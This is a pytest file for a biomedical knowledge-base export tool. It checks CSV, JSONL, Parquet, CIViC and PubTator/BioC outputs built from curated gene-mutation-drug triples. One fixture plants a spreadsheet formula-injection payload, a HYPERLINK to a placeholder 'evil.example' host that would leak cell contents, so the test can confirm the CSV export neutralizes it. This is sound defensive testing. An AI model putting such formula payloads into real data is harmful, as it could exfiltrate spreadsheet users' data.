"""`resmine export`: knowledge base, CIViC-shaped items, PubTator and BioC, from a store written
by `resmine extract --db` and decided on, on SQLite and PostgreSQL."""

from __future__ import annotations

import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from lxml import etree

from resmine.cli import main
from resmine.export import read_csv
from resmine.export.kb import CIVIC_COLUMNS, KB_COLUMNS
from resmine.model import triple_id
from resmine.readers.pubtator import read_pubtator_annotated
from resmine.store import open_store
from resmine.store.curation import decide

EGFR = triple_id("EGFR", "T790M", "erlotinib", "resistance")
ALK = triple_id("ALK", "G1202R", "ceritinib", "resistance")
BRAF = triple_id("BRAF", "V600E", "vemurafenib", "sensitivity")
DOCS = {  # file stems are PMIDs, as PubMed records' doc ids are
    "11111.txt": "Drug resistance in lung cancer.\nEGFR T790M confers resistance to erlotinib.\n",
    "22222.txt": "ALK G1202R confers resistance to ceritinib.\n",
    "33333.txt": "BRAF V600E melanoma cells were sensitive to vemurafenib.\tTable\n",
}
EVIL_GENE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def decided_store(store_location, tmp_path):
    docs = tmp_path / "docs"
    docs.mkdir()
    for name, text in DOCS.items():
        (docs / name).write_text(text, encoding="utf-8")
    result = CliRunner().invoke(main, ["extract", str(docs), "-o", str(tmp_path / "run"), "--db", store_location])
    assert result.exit_code == 0, result.output
    assert "store " in result.output and "3 new triples" in result.output
    with open_store(store_location) as db:
        decide(db, EGFR, "accept", "ana")
        decide(db, ALK, "reject", "ana", note="=1+1 cell line only")
        decide(db, BRAF, "edit", "ben", edit={"gene": EVIL_GENE, "mutation": "V600E", "drug": "vemurafenib",
                                             "relation": "sensitivity"})
    return store_location


def _export(location: str, out: Path, *options: str):
    result = CliRunner().invoke(main, ["export", "--db", location, "-o", str(out), *options])
    assert result.exit_code == 0, result.output
    return result.output


def test_knowledge_base_csv_has_ids_provenance_decisions_and_inert_formulas(decided_store, tmp_path):
    output = _export(decided_store, tmp_path / "kb", "--status", "all")
    assert "knowledge_base.csv" in output and "mentions.bioc.xml" in output
    raw = (tmp_path / "kb" / "knowledge_base.csv").read_text(encoding="utf-8")
    assert raw.splitlines()[0] == ",".join(KB_COLUMNS)
    # the formula a curator typed is written with the guard, so a spreadsheet shows it as text
    assert "\"'=HYPERLINK(" in raw and ",=HYPERLINK(" not in raw and "\"=HYPERLINK(" not in raw
    rows = {row["triple_id"]: row for row in read_csv(tmp_path / "kb" / "knowledge_base.csv")}
    assert set(rows) == {EGFR, ALK, BRAF}
    egfr, alk, braf = rows[EGFR], rows[ALK], rows[BRAF]
    assert (egfr["status"], egfr["decided_by"], egfr["pmids"], egfr["kb_triple_id"]) == ("accepted", "ana", "11111", EGFR)
    assert egfr["sentences"] == "EGFR T790M confers resistance to erlotinib." and egfr["decided_at"][:2] == "20"
    assert (alk["status"], alk["note"]) == ("rejected", "=1+1 cell line only")
    assert (braf["gene"], braf["status"], braf["decided_by"]) == (EVIL_GENE, "accepted", "ben")
    assert braf["extracted_as"] == "BRAF|V600E|vemurafenib|sensitivity"
    assert braf["kb_triple_id"] == triple_id(EVIL_GENE, "V600E", "vemurafenib", "sensitivity")


def test_default_export_is_the_accepted_triples_in_every_format(decided_store, tmp_path):
    for fmt in ("csv", "jsonl", "parquet"):
        _export(decided_store, tmp_path / fmt, "--format", fmt)
    csv_rows = read_csv(tmp_path / "csv" / "knowledge_base.csv")
    jsonl_rows = [json.loads(line) for line in (tmp_path / "jsonl" / "knowledge_base.jsonl").read_text().splitlines()]
    parquet_rows = pq.read_table(tmp_path / "parquet" / "knowledge_base.parquet").to_pylist()
    for rows in (csv_rows, jsonl_rows, parquet_rows):
        assert sorted(row["triple_id"] for row in rows) == sorted([EGFR, BRAF])
    assert list(parquet_rows[0]) == KB_COLUMNS and list(jsonl_rows[0]) == KB_COLUMNS
    by_id = {row["triple_id"]: row for row in parquet_rows}
    assert by_id[EGFR]["pmids"] == ["11111"] and by_id[EGFR]["n_evidence"] == 1
    assert by_id[BRAF]["gene"] == EVIL_GENE  # typed formats keep the text as it is


def test_civic_shaped_items(decided_store, tmp_path):
    _export(decided_store, tmp_path / "kb", "--status", "all")
    raw = (tmp_path / "kb" / "civic_evidence.csv").read_text(encoding="utf-8")
    assert raw.splitlines()[0] == ",".join(CIVIC_COLUMNS)
    items = {row["resmine_triple_id"]: row for row in read_csv(tmp_path / "kb" / "civic_evidence.csv")}
    egfr = items[EGFR]
    assert (egfr["gene"], egfr["variant"], egfr["drugs"], egfr["evidence_type"], egfr["evidence_direction"],
            egfr["clinical_significance"], egfr["citation_id"], egfr["source_type"]) == (
        "EGFR", "T790M", "Erlotinib", "Predictive", "Supports", "Resistance", "11111", "PubMed")
    assert egfr["evidence_statement"] == "EGFR T790M confers resistance to erlotinib."
    assert items[BRAF]["clinical_significance"] == "Sensitivity/Response"
    assert items[ALK]["resmine_status"] == "rejected"


def test_mentions_as_pubtator_and_bioc_keep_text_and_offsets(decided_store, tmp_path):
    _export(decided_store, tmp_path / "kb")
    with open_store(decided_store) as db:
        stored = {row["doc_id"]: row["text"] for row in db.query("SELECT doc_id, text FROM documents")}
        n_mentions = db.scalar("SELECT COUNT(*) FROM mentions")
    read = [item for item in read_pubtator_annotated(tmp_path / "kb" / "mentions.pubtator")]
    assert all(isinstance(item, tuple) for item in read), read
    assert {doc.doc_id for doc, _ in read} == set(stored)
    n = 0
    for doc, annotations in read:
        # the document's first line is the title, the rest the abstract: title + " " + abstract
        assert doc.text == stored[doc.doc_id].replace("\n", " ").replace("\t", " ")
        for annotation in annotations:
            assert doc.text[annotation.start:annotation.end] == annotation.text
            n += 1
    assert n == n_mentions and n > 0
    assert ("EGFR", "Gene") in {(a.text, a.type) for _, anns in read for a in anns}

    tree = etree.parse(str(tmp_path / "kb" / "mentions.bioc.xml"))
    assert tree.docinfo.doctype == '<!DOCTYPE collection SYSTEM "BioC.dtd">'
    annotations = tree.findall(".//annotation")
    assert len(annotations) == n_mentions
    for annotation in annotations:
        doc_id = annotation.getparent().getparent().findtext("id")
        location = annotation.find("location")
        start, length = int(location.get("offset")), int(location.get("length"))
        assert stored[doc_id][start:start + length] == annotation.findtext("text")


def test_export_without_a_store_is_one_line_and_exit_3(tmp_path):
    missing = tmp_path / "none.sqlite"
    result = CliRunner().invoke(main, ["export", "--db", str(missing), "-o", str(tmp_path / "kb")])
    assert result.exit_code == 3
    assert result.output == f"error: {missing}: no store here (write one with 'resmine run', or give --db)\n"
    assert not missing.exists()


def test_a_fusion_is_named_by_its_partners_as_civic_names_it():
    from resmine.export.kb import civic_records

    def row(mutation, written):
        return {"triple_id": "t", "status": "accepted", "gene": "ALK", "mutation": mutation, "drug": "crizotinib",
                "relation": "sensitivity",
                "evidence": [{"doc_id": "11111", "sentence": "s", "mutation_text": text} for text in written]}

    assert civic_records([row("fusion", ["EML4-ALK", "EML4–ALK"])])[0]["variant"] == "EML4-ALK"
    # two partners named, or none: CIViC's class name
    assert civic_records([row("fusion", ["EML4-ALK", "NPM-ALK"])])[0]["variant"] == "FUSION"
    assert civic_records([row("fusion", ["rearrangement"])])[0]["variant"] == "FUSION"
    assert civic_records([row("amplification", ["amplified"])])[0]["variant"] == "AMPLIFICATION"
    assert civic_records([row("G1202R", ["G1202R"])])[0]["variant"] == "G1202R"
